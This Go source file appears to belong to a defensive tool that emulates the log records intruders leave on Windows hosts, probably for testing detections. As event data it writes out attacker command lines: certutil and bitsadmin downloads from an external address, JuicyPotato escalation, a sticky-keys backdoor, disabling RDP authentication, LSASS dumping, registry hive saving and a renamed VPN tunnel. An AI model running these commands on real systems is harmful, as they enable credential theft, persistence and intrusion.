package record

import (
	"cmp"
	"fmt"
	"net/netip"
	"slices"
	"strings"

	"github.com/lapwing-defence/lapwing/internal/event"
)

// Behaviour is one thing that an intruder does on a host, as its logs tell it.
// The list is closed: a scenario names behaviours, it cannot describe new ones.
type Behaviour struct {
	Name, Summary string
	Techniques    []string // ATT&CK ids
	Family        string   // of hosts that it happens on: windows or linux
}

// Params says who does it and with whom. Nothing else can be said.
type Params struct {
	User     string         // whose account; "": the behaviour's own
	From     netip.AddrPort // where the intruder comes from
	Peer     string         // name of another host of the scenario; "": server01
	External netip.Addr     // of the intruder outside; invalid: 203.0.113.10
}

// behaviour is a Behaviour with its records.
type behaviour struct {
	Behaviour
	write func(*Host, Params) []event.Event
}

// Behaviours is the closed list, sorted by name.
func Behaviours() []Behaviour {
	out := make([]Behaviour, 0, len(behaviours))
	for _, b := range behaviours {
		out = append(out, b.Behaviour)
	}
	slices.SortFunc(out, func(a, b Behaviour) int { return strings.Compare(a.Name, b.Name) })
	return out
}

// FindBehaviour is the behaviour of a name; the error lists those that there are.
func FindBehaviour(name string) (Behaviour, error) {
	b, err := find(name)
	return b.Behaviour, err
}

func find(name string) (behaviour, error) {
	for _, b := range behaviours {
		if b.Name == name {
			return b, nil
		}
	}
	all := make([]string, 0, len(behaviours))
	for _, b := range Behaviours() {
		all = append(all, b.Name)
	}
	return behaviour{}, fmt.Errorf("no behaviour %q: use one of %s", name, strings.Join(all, ", "))
}

// Emulate gives the records that a behaviour leaves on the host, in their order.
func (h *Host) Emulate(name string, p Params) ([]event.Event, error) {
	b, err := find(name)
	if err != nil {
		return nil, err
	}
	if b.Family != h.c.Family {
		return nil, fmt.Errorf("%s leaves its records on %s hosts, and %s is a %s host: choose another host", name, b.Family, h.c.Name, h.c.Family)
	}
	for _, s := range []string{p.User, p.Peer} {
		if len(s) > 64 || strings.ContainsAny(s, "\r\n\t\"'<>|&;`$%") {
			return nil, fmt.Errorf("%s: %q is no name of a user or host", name, s)
		}
	}
	p.Peer = cmp.Or(p.Peer, "server01")
	if !p.External.IsValid() {
		p.External = netip.AddrFrom4([4]byte{203, 0, 113, 10})
	}
	if !p.From.Addr().IsValid() {
		p.From = netip.AddrPortFrom(h.c.Addr, 49800)
	}
	return b.write(h, p), nil
}

// Accounts under which servers run.
const (
	webAccount = `IIS APPPOOL\DefaultAppPool`
	sqlAccount = `NT SERVICE\MSSQLSERVER`
)

const (
	worker   = system32 + `inetsrv\w3wp.exe`
	cmd      = system32 + "cmd.exe"
	shell    = system32 + `WindowsPowerShell\v1.0\powershell.exe`
	sqlExe   = `C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe`
	arcSOC   = `C:\Program Files\ArcGIS\Server\framework\runtime\ArcSOC.exe`
	services = system32 + "services.exe"
	bridge   = system32 + `Bridge\bridge.exe`
	conhost  = `C:\ProgramData\conhost.exe`
	softCo   = "SoftEther VPN Project at University of Tsukuba, Japan."
)

// all joins records.
func all(parts ...[]event.Event) []event.Event { return slices.Concat(parts...) }

// run is a program of System32 with its arguments, typed in a command shell.
func (h *Host) run(user, program, args, integrity string) []event.Event {
	image := system32 + program
	if program == "WMIC.exe" {
		image = system32 + `wbem\WMIC.exe`
	}
	return h.Process(Process{Image: image, CommandLine: strings.TrimSpace(strings.TrimSuffix(program, ".exe") + " " + args), User: user, Parent: cmd, Integrity: integrity})
}

func serverShell(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, webAccount)
	return all(
		h.Process(Process{Image: cmd, CommandLine: `cmd.exe /c whoami`, User: u, Parent: worker, ParentLine: `w3wp.exe -ap "DefaultAppPool"`, Integrity: "High"}),
		h.run(u, "whoami.exe", "", "High"),
	)
}

func discovery(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, webAccount)
	return all(
		h.run(u, "whoami.exe", "/all", "High"), h.run(u, "ipconfig.exe", "/all", "High"), h.run(u, "systeminfo.exe", "", "High"),
		h.run(u, "nltest.exe", "/domain_trusts", "High"), h.run(u, "net.exe", `group "domain computers" /domain`, "High"),
	)
}

func objectExtension(h *Host, p Params) []event.Event {
	return all(
		h.Web(Request{From: p.From, Path: "/arcgis/rest/services/Basemap/MapServer/exts/Parcels/query", Query: "layer=TEFQV0lORy1JTkVSVC1NQVJLRVI=", Agent: "Mozilla/5.0"}),
		h.Process(Process{Image: cmd, CommandLine: "cmd.exe /c echo LAPWING-MARKER", User: cmp.Or(p.User, `NT SERVICE\ArcGIS Server`), Parent: arcSOC, Integrity: "High"}),
	)
}

func powershell(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, webAccount)
	return all(
		h.Process(Process{Image: shell, CommandLine: "powershell -nop -c Get-LocalGroupMember Administrators", User: u, Parent: worker, Integrity: "High"}),
		h.Script("Get-LocalGroupMember Administrators", u),
	)
}

func download(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, sqlAccount)
	url := "http://" + p.External.String() + "/marker.bin"
	return all(
		h.Process(Process{Image: cmd, CommandLine: "cmd.exe /c certutil", User: u, Parent: sqlExe, Integrity: "High"}),
		h.run(u, "certutil.exe", "-urlcache -split -f "+url+" "+conhost, "High"),
		h.Network(Connection{Image: system32 + "certutil.exe", User: u, To: netip.AddrPortFrom(p.External, 80)}),
		h.run(u, "bitsadmin.exe", "/transfer job /download /priority high "+url+" C:\\ProgramData\\dllhost.exe", "High"),
		h.Transfer("job", url, u),
		h.File(system32+"certutil.exe", conhost, u),
	)
}

func potato(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, webAccount)
	image := `C:\Windows\Temp\juicypotato.exe`
	return all(
		h.File(worker, image, u),
		h.Process(Process{Image: image, CommandLine: `juicypotato.exe -l 1337 -p C:\Windows\System32\cmd.exe -t *`, User: u, Parent: cmd, Integrity: "High"}),
		h.Logon(Logon{User: `NT AUTHORITY\ANONYMOUS LOGON`, Type: 3, NTLM: true}),
		h.Process(Process{Image: cmd, CommandLine: cmd, User: systemUser, Parent: image, Integrity: "System"}),
	)
}

func nlaOff(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, systemUser)
	return all(
		h.run(u, "reg.exe", `add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 0 /f`, "System"),
		h.Registry(system32+"reg.exe", `HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp\UserAuthentication`, "DWORD (0x00000000)", u),
	)
}

func stickyKeys(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, systemUser)
	return all(
		h.Registry(system32+"reg.exe", `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger`, system32+"taskmgr.exe", u),
		h.Process(Process{Image: system32 + "Taskmgr.exe", CommandLine: `"C:\Windows\System32\taskmgr.exe" sethc.exe 211`, User: systemUser, Parent: system32 + "winlogon.exe", Integrity: "System"}),
	)
}

func bridgeService(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, systemUser)
	return all(
		h.run(u, "sc.exe", `create SysBridge binPath= "`+bridge+` /service" start= auto`, "System"),
		h.Service("SysBridge", bridge+" /service", "LocalSystem", u),
		h.Registry(services, `HKLM\System\CurrentControlSet\Services\SysBridge\ImagePath`, bridge+" /service", systemUser),
		h.Process(Process{Image: bridge, CommandLine: bridge + " /service", User: systemUser, Parent: services, Integrity: "System", Original: "vpnbridge_x64.exe", Company: softCo, Product: "SoftEther VPN"}),
	)
}

func renamedVPN(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, sqlAccount)
	return all(
		h.File(cmd, `C:\ProgramData\hamcore.se2`, u),
		h.Process(Process{Image: conhost, CommandLine: conhost + " /usermode", User: u, Parent: cmd, Integrity: "High", Original: "vpnbridge.exe", Company: softCo, Product: "SoftEther VPN"}),
		h.File(conhost, `C:\ProgramData\vpn_bridge.config`, u),
		h.Service("conhost", conhost+" /service", "LocalSystem", systemUser),
	)
}

func tunnel(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, systemUser)
	return all(
		h.DNS(conhost, "vpn123456789.softether.net", p.External.String(), u),
		h.Network(Connection{Image: conhost, User: u, To: netip.AddrPortFrom(p.External, 443), ToName: "vpn123456789.softether.net"}),
	)
}

func standingVPN(h *Host, p Params) []event.Event {
	image := `C:\Program Files\SoftEther VPN Bridge\vpnbridge_x64.exe`
	return all(
		h.Service("SEVPNBRIDGE", image+" /service", "LocalSystem", cmp.Or(p.User, systemUser)),
		h.Process(Process{Image: image, CommandLine: image + " /service", User: systemUser, Parent: services, Integrity: "System", Original: "vpnbridge_x64.exe", Company: softCo}),
	)
}

func wmicRemote(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "administrator")
	return all(
		h.run(u, "WMIC.exe", `/node:`+p.Peer+` process call create "cmd /c echo LAPWING-MARKER"`, "High"),
		h.ExplicitLogon(u, u, p.Peer, system32+`wbem\WMIC.exe`),
	)
}

func winrmShell(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "administrator")
	return all(
		h.Logon(Logon{User: u, Type: 3, From: p.From, Admin: true}),
		h.Process(Process{Image: system32 + "wsmprovhost.exe", CommandLine: system32 + "wsmprovhost.exe -Embedding", User: u, Parent: system32 + "svchost.exe", Integrity: "High"}),
		h.Process(Process{Image: shell, CommandLine: "powershell hostname", User: u, Parent: system32 + "wsmprovhost.exe", Integrity: "High"}),
		h.Script("hostname", u),
	)
}

func lsassDump(h *Host, _ Params) []event.Event {
	lsass, tm := system32+"lsass.exe", system32+"Taskmgr.exe"
	return all(
		h.Access(tm, lsass, systemUser, "0x1fffff", `C:\Windows\SYSTEM32\ntdll.dll+9d4b4|C:\Windows\System32\dbgcore.DLL+6c2e`),
		h.ImageLoad(tm, system32+"dbghelp.dll", systemUser, true),
		h.File(tm, `C:\Windows\Temp\lsass.DMP`, systemUser),
	)
}

func hiveSave(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "administrator")
	return all(
		h.run(u, "reg.exe", `save HKLM\SAM C:\Windows\Temp\sam.hiv`, "High"),
		h.run(u, "reg.exe", `save HKLM\SECURITY C:\Windows\Temp\security.hiv`, "High"),
		h.run(u, "reg.exe", `save HKLM\SYSTEM C:\Windows\Temp\system.hiv`, "High"),
		h.File(system32+"reg.exe", `C:\Windows\Temp\sam.hiv`, u),
	)
}

func replication(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, "administrator")
	return all(h.Logon(Logon{User: u, Type: 3, From: p.From, Admin: true}), h.Replication(u))
}

func passwordFile(h *Host, p Params) []event.Event {
	_, n := h.split(cmp.Or(p.User, h.c.Users[0]))
	return all(
		h.Process(Process{Image: system32 + "notepad.exe", CommandLine: `"C:\Windows\System32\notepad.exe" C:\Users\` + n + `\Desktop\pass.txt`, User: p.User}),
		h.File(`C:\Windows\explorer.exe`, `C:\Users\`+n+`\AppData\Roaming\Microsoft\Windows\Recent\pass.txt.lnk`, p.User),
	)
}

func internalScan(h *Host, p Params) []event.Event {
	u := cmp.Or(p.User, systemUser)
	return h.Process(Process{Image: `C:\Windows\Temp\fscan.exe`, CommandLine: `fscan.exe -h 10.0.0.0/24 -nobr -nopoc`, User: u, Parent: cmd, Integrity: "System"})
}

func restorePoints(h *Host, p Params) []event.Event {
	return h.run(cmp.Or(p.User, systemUser), "WMIC.exe", `/namespace:\\root\default path SystemRestore get Description`, "System")
}

func fakeDiagTrack(h *Host, p Params) []event.Event {
	_, n := h.split(cmp.Or(p.User, h.c.Users[0]))
	dir := `C:\Users\` + n + `\AppData\Local\Temp\`
	return all(
		h.File(`C:\Program Files\7-Zip\7zG.exe`, dir+"live700_v1.exe", p.User),
		h.Process(Process{Image: dir + "live700_v1.exe", CommandLine: dir + "live700_v1.exe", User: p.User}),
		h.Process(Process{Image: dir + "DiagTrack.exe", CommandLine: "DiagTrack.exe", User: p.User, Parent: dir + "live700_v1.exe"}),
		h.Network(Connection{Image: dir + "DiagTrack.exe", User: p.User, To: netip.AddrPortFrom(p.External, 443)}),
	)
}
